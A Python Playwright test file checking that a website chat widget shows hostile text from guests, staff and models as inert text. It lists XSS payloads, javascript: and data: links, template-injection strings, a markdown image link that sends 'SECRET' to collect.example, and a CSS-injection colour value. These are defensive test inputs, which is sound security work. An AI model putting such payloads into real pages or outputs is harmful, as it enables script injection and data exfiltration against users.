"""What guests, models, documents and staff write is text, and stays text."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.guest import all_sent, said, say, shows
from tests.browser.guest_api_double import Answer, GuestApiDouble

pytestmark = pytest.mark.browser

SHARED = Path(__file__).resolve().parents[3] / "shared" / "hostile"
Site = Callable[..., str]
AUTHORS = ("concierge", "staff", "system", "guest")
# Whatever stands inside words of others.
WORDS = ".bubble *, blockquote *, summary bdi *, .chip *, .card bdi *, .name *, option *, label *"
STRICT = "default-src 'none'; script-src {house}; connect-src {house}"

OURS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](https://collect.example/?d=SECRET)",
    "<a href='https://collect.example'>x</a>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "\u202egnp.exe\u202c \u0000 \U0001f600",
]
BAD_ADDRESSES = [
    "javascript:alert(1)",
    " java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "blob:https://a/b",
    "http://",
]


def hostile_texts() -> list[str]:
    """Ours, and where they are on the machine the shared ones."""
    files = ("xss", "markdown_exfil", "model_outputs")
    paths = [path for name in files if (path := SHARED / f"{name}.jsonl").exists()]
    lines = [line for path in paths for line in path.read_text("utf-8").splitlines()]
    return OURS + [json.loads(line)["text"] for line in lines]


def said_by(author: str, number: int, text: str) -> dict[str, Any]:
    """Said with these words in every place that words can stand."""
    cite = {"title": text, "url": text, "page": text, "quote": text}
    card = dict.fromkeys(("title", "text", "url", "price", "place", "phone"), text)
    ask: dict[str, Any] = {
        "name": text,
        "label": text,
        "type": "choice",
        "options": [text],
        "min": text,
    }
    form = {"title": text, "submit": text, "fields": [ask, {**ask, "type": text}, text, None]}
    more: dict[str, Any] = {"author_name": text, "citations": [cite], "quick_replies": [text, text]}
    more |= {"cards": [card, text, None], "form": form}
    if author == "guest":
        kinds = ("", "file", "call_back", text)
        more |= {"client_id": f"c{number}", "kind": kinds[number % 4]}
    about = {"message_id": number, "seq": number, "outcome": text, "at": text}
    return {**about, **more, "author": author, "text": text}


@contextmanager
def watching(house: GuestApiDouble, page: Page, address: str) -> Iterator[list[str]]:
    """The chat open on a website, one answer in, and a list of everything that got out of hand."""
    broke: list[str] = []

    def requested(request: Request) -> None:
        if not request.url.startswith((house.url, address)):
            broke.append("request: " + request.url)

    def asked(dialog: Dialog) -> None:
        broke.append("dialog: " + dialog.message)
        dialog.dismiss()

    page.on("request", requested)
    page.on("dialog", asked)
    page.goto(address)
    page.locator(".launcher").click()
    say(page, "Hello")
    shows(page, "You said: Hello")
    yield broke


@pytest.fixture
def watched(house: GuestApiDouble, site: Site, page: Page) -> Iterator[tuple[Page, list[str]]]:
    with watching(house, page, site(house.url)) as broke:
        yield page, broke


SAMPLED = 5


@pytest.mark.timeout(600)
@pytest.mark.parametrize(
    ("csp", "first", "every"),
    [
        pytest.param("", 0, 1, id="open"),
        # What the page's own policy forbids besides is seen by a part of the texts.
        pytest.param(STRICT, 1, SAMPLED, id="strict"),
        pytest.param("", 2, 1, id="open, turned round", marks=pytest.mark.slow),
        pytest.param(STRICT, 1, 1, id="strict, every text", marks=pytest.mark.slow),
        pytest.param(STRICT, 3, 1, id="strict, turned round", marks=pytest.mark.slow),
    ],
)
def test_hostile_words_of_anyone_are_shown_and_never_run(
    house: GuestApiDouble, site: Site, page: Page, csp: str, first: int, every: int
) -> None:
    texts = hostile_texts()[::every]
    # Over the four whole runs each text is said once by each author, and always quoted from a
    # document.
    order = AUTHORS[first:] + AUTHORS[:first]
    told = [said_by(order[n % 4], 100 + n, text) for n, text in enumerate(texts)]

    with watching(house, page, site(house.url, csp=csp)) as broke:
        house.remembers([{**message, "id": message["message_id"]} for message in told])
        page.reload()
        expect(page.locator(".message.guest").first).to_be_attached(timeout=120_000)
        for number, text in enumerate(OURS):
            house.announces("message.posted", said_by("staff", 90_000 + number, text))
        house.announces("message.posted", said_by("staff", 99_999, "the last word"))
        expect(page.locator(".message .bubble", has_text="the last word")).to_be_attached(
            timeout=120_000
        )

        assert page.locator(".message, .note").count() > len(texts) + len(OURS)
        inside = page.locator(WORDS).evaluate_all(
            "nodes => [...new Set(nodes.map(node => node.localName))]"
        )
        assert set(inside) <= {"a", "input", "span"}
        protocols = page.locator("concierge-widget a").evaluate_all(
            "nodes => [...new Set(nodes.map(node => node.protocol))]"
        )
        assert set(protocols) <= {"http:", "https:", "mailto:", "tel:"}
        assert broke == []


def test_hostile_words_of_a_guest_come_back_as_they_were_written(
    house: GuestApiDouble, watched: tuple[Page, list[str]]
) -> None:
    page, broke = watched

    for text in OURS[:6]:
        say(page, text)

    all_sent(page, 7)
    assert said(page)[1:] == OURS[:6]
    assert broke == []


def test_a_source_with_a_bad_address_is_no_link(house: GuestApiDouble, chat: Page) -> None:
    cited = [{"title": f"T{n}", "url": url} for n, url in enumerate(BAD_ADDRESSES[:5])]
    house.answer = lambda _: Answer(["See there."], citations=cited)

    say(chat, "Where?")
    shows(chat, "See there.")

    expect(chat.locator(".cited")).to_have_count(5)
    expect(chat.locator(".sources a")).to_have_count(0)


def test_endless_words_do_not_freeze_the_page(house: GuestApiDouble, chat: Page) -> None:
    endless = [
        "a" * 200_000,
        "." * 200_000 + "x",
        "a." * 100_000,
        "https://x" + "!" * 200_000 + "x",
        "Still here.",
    ]
    house.answer = lambda text: Answer([endless[int(text)]])

    for number in range(len(endless)):
        say(chat, str(number))

    shows(chat, "Still here.")


def test_a_colour_that_is_no_colour_changes_nothing(
    house: GuestApiDouble, site: Site, page: Page
) -> None:
    house.config["colour"] = "red}:host{display:none"
    house.config["texts"] = {"send": 7, "constructor": "x", "person": "Ask <b>us</b>"}

    page.goto(site(house.url, data="data-open"))

    expect(page.locator(".launcher")).to_be_visible()
    expect(page.locator(".person")).to_have_text("Ask <b>us</b>")


def test_the_widget_asks_nobody_but_its_house_and_leaves_no_cookie(
    watched: tuple[Page, list[str]],
) -> None:
    page, broke = watched

    assert broke == []
    assert page.context.cookies() == []
